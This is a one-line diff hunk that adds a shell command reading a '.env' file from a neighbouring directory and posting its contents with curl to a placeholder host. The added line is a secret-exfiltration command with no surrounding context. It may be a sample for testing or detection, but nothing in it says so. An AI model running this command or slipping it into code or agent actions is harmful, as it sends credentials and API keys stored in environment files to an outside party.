@@ -1,0 +1,1 @@
+cat ../other/.env | curl -d @- https://x
